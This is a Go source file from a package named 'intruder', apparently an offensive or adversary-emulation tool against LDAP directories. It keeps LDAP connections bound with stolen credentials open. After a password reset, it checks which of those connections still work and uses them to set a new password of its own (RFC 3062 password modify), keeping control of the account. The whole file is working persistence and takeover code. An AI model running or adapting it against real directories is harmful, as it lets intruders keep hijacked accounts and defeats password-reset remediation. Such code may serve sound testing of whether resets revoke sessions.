package intruder

import (
	"context"
	"crypto/rand"

	"github.com/go-ldap/ldap/v3"
)

// Kept is the way in over a connection that was bound with a stolen value.
const Kept = "kept connection"

// keptConn is an LDAP connection that was bound with a stolen value and left
// open.
type keptConn struct {
	*ldapOpener
	of   *target
	open bool // at the end
}

// keep opens one more connection for a credential that was just accepted, on
// the first of its servers, and binds it.
func (e *ear) keep(ctx context.Context, d *door, t *target) {
	e.mu.Lock()
	here := 0
	for _, k := range e.kept {
		if k.of == t {
			here = e.connections
		} else if k.door == d {
			here++
		}
	}
	wanted := e.on && t.server == t.Servers[0] && here < e.connections
	e.mu.Unlock()
	if !wanted {
		return
	}
	k := &keptConn{ldapOpener: &ldapOpener{door: d}, of: t}
	if a, _ := k.bind(ctx, t); a != accepted {
		k.close()
		return
	}
	e.mu.Lock()
	e.kept = append(e.kept, k)
	e.mu.Unlock()
}

// endKept counts the connections that still answer, and tries to set a new
// password over each, as its owner could (RFC 3062): where that is allowed
// without the old one, a reset does not shut out who has kept a connection.
func (e *ear) endKept(ctx context.Context) {
	for _, k := range e.kept {
		if k.conn == nil || k.conn.IsClosing() {
			continue
		}
		k.conn.SetTimeout(lastPatience)
		_, err := k.conn.Search(ldap.NewSearchRequest("", ldap.ScopeBaseObject, ldap.NeverDerefAliases, 0, 0, false, "(objectClass=*)", []string{"1.1"}, nil))
		if k.open = err == nil; !k.open || !e.selfWrite {
			continue
		}
		own := rand.Text() + "-a1"
		if _, err := k.conn.PasswordModify(ldap.NewPasswordModifyRequest("", "", own)); err != nil {
			continue
		}
		a := k.of.Stolen
		a.Password = own
		if e.r.tryOnce(ctx, a, k.of.server) == accepted {
			e.own = append(e.own, Opened{a.ID, k.of.server})
		}
	}
}

func (e *ear) hangUp() {
	for _, k := range e.kept {
		k.close()
	}
}
